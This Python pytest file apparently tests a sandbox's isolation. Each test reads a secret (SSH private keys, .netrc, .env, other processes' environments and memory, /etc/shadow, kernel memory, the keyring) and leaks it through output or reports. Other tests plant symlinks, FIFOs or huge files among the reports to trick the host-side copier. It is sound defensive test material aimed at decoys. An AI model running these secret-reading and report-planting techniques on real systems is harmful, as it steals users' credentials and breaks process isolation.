"""Attacks that read a secret and give it away by what the lift receives: output and reports."""

import ctypes
import os
import socket
from pathlib import Path

import aim
import pytest


def give_away(text):
    """By the printed output and by a file in the report folder."""
    print(text)
    with (aim.reports() / "loot.txt").open("a") as file:
        file.write(str(text))


def test_ssh_key():
    """read the user's private ssh key"""
    give_away((aim.HOME / ".ssh/id_ed25519").read_text())


def test_netrc():
    """read the user's ~/.netrc"""
    give_away((aim.HOME / ".netrc").read_text())


def test_project_env_file():
    """read .env in the user's project"""
    give_away((aim.PROJECT / ".env").read_text())


def test_copied_env_file():
    """read .env in the private copy"""
    give_away((aim.COPY / ".env").read_text())


def test_own_environment():
    """find a key in the own environment"""
    give_away(dict(os.environ))


def test_environment_of_others():
    """find a key in the environment of any process, the lift's among them"""
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            text = path.read_text("utf-8", "replace")
        except OSError:
            continue
        give_away("\n".join(row for row in text.split("\0") if row.startswith("DECOY_")))


def test_command_lines_of_others():
    """find a key in the command line of any process"""
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = path.read_text("utf-8", "replace")
        except OSError:
            continue
        give_away("\n".join(word for word in text.split("\0") if word.startswith("--token=")))


def test_descriptors_of_others():
    """read a secret by /proc/PID/fd of a process of the user's"""
    give_away(Path(f"/proc/{aim.DECOY['pid']}/fd/{aim.DECOY['fd']}").read_text())


def test_root_of_others():
    """read a secret by /proc/PID/root of a process of the user's"""
    root = Path(f"/proc/{aim.DECOY['pid']}/root")
    give_away((root / str(aim.HOME / ".ssh/id_ed25519").lstrip("/")).read_text())


def test_own_descriptors():
    """read a secret by a descriptor that was inherited"""
    for name in os.listdir("/proc/self/fd"):
        try:
            give_away(os.pread(int(name), 4096, 0).decode("utf-8", "replace"))
        except OSError:
            continue


def test_memory_of_others():
    """read the memory of a process of the user's by /proc/PID/mem"""
    with open(f"/proc/{aim.DECOY['pid']}/mem", "rb", buffering=0) as memory:
        memory.seek(aim.DECOY["address"])
        give_away(memory.read(aim.DECOY["length"]).decode())


class Piece(ctypes.Structure):
    """struct iovec"""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def test_process_vm_readv():
    """read the memory of a process of the user's by process_vm_readv"""
    buffer = ctypes.create_string_buffer(aim.DECOY["length"])
    local = Piece(ctypes.addressof(buffer), aim.DECOY["length"])
    remote = Piece(aim.DECOY["address"], aim.DECOY["length"])
    aim.syscall(310, aim.DECOY["pid"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    give_away(buffer.raw.decode())


def test_pidfd_getfd():
    """take a descriptor of a process of the user's by pidfd_getfd"""
    handle = os.pidfd_open(aim.DECOY["pid"])
    taken = aim.syscall(438, handle, aim.DECOY["fd"], 0)
    give_away(os.pread(taken, 4096, 0).decode())


def test_other_tmp():
    """read somebody else's folder below /tmp"""
    give_away((aim.ELSEWHERE / "notes.txt").read_text())


def test_var_tmp():
    """read somebody else's folder below /var/tmp"""
    give_away((aim.VAR_TMP / "notes.txt").read_text())


def test_shm_file():
    """read somebody else's file in /dev/shm"""
    give_away(aim.SHM.read_text())


@pytest.mark.attack(seen="inside")
def test_shadow():
    """open /etc/shadow"""
    with open("/etc/shadow", "rb") as file:
        assert file.read(1)


@pytest.mark.attack(seen="inside")
def test_host_keys():
    """open a private host key or a private certificate key"""
    places = [*Path("/etc/ssh").glob("ssh_host_*_key"), *Path("/etc/ssl/private").iterdir()]
    with places[0].open("rb") as file:
        assert file.read(1)


@pytest.mark.attack(seen="inside")
def test_disk():
    """open the block device of a disk"""
    disks = [p for p in Path("/dev").iterdir() if p.is_block_device()]
    for disk in disks:
        try:
            disk.open("rb").close()
            return
        except OSError:
            continue
    raise PermissionError("no disk could be opened")


@pytest.mark.attack(seen="inside")
def test_kernel_memory():
    """open the memory of the kernel"""
    for name in ("/dev/mem", "/proc/kcore", "/dev/kmem"):
        try:
            with open(name, "rb", buffering=0) as file:
                assert file.read(1)
            return
        except OSError:
            continue
    raise PermissionError("no memory could be opened")


def test_sysv_memory():
    """attach shared memory (System V) of a process of the user's"""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    found = libc.shmget(aim.SHM_KEY, 0, 0)
    assert found >= 0
    give_away(ctypes.string_at(libc.shmat(found, None, 0o10000), 64).rstrip(b"\0").decode())


def test_keyring():
    """read a key of the session's keyring"""
    key = aim.syscall(250, 10, -3, b"user", aim.KEY_NAME.encode(), 0)
    buffer = ctypes.create_string_buffer(256)
    aim.syscall(250, 11, key, buffer, 256)
    give_away(buffer.value.decode())


def test_socket_of_others():
    """ask a unix socket of the user's (as docker.sock would be) for a descriptor"""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as way:
        way.settimeout(1)
        way.connect(aim.SOCKET)
        way.sendall(b"GET / HTTP/1.0\r\n\r\n")


@pytest.mark.attack(measure=True)
def test_report_is_link():
    """a report becomes a link to a key, for the lift to copy"""
    _plant(lambda path: path.symlink_to(aim.HOME / ".ssh/id_ed25519"))


@pytest.mark.attack(measure=True)
def test_report_folder_is_link():
    """a folder among the reports becomes a link to the user's keys, for the lift to copy"""
    import atexit

    place = aim.reports() / "more"
    atexit.register(place.symlink_to, aim.HOME / ".ssh")


@pytest.mark.attack(measure=True)
def test_report_is_hard_link():
    """a report becomes a hard link to a key, for the lift to copy"""
    _plant(lambda path: path.hardlink_to(aim.HOME / ".ssh/id_ed25519"))


@pytest.mark.attack(measure=True)
def test_report_is_fifo():
    """the reports become pipes that nobody writes into, for the lift to hang on"""
    _plant(os.mkfifo)


@pytest.mark.attack(measure=True)
def test_report_is_folder():
    """the reports become folders"""
    _plant(lambda path: (path / "inner").mkdir(parents=True))


@pytest.mark.attack(measure=True)
def test_report_is_huge():
    """the reports become sparse files of a gigabyte"""
    _plant(lambda path: path.touch() or os.truncate(path, 1 << 30))


def _plant(make):
    """At the very end of the process, when the reports have been written."""
    import atexit
    import shutil

    def put():
        for name in ("junit.xml", "coverage.json", "coverage.xml", "coverage.db"):
            path = aim.reports() / name
            shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
            make(path)

    aim.reports()
    atexit.register(put)
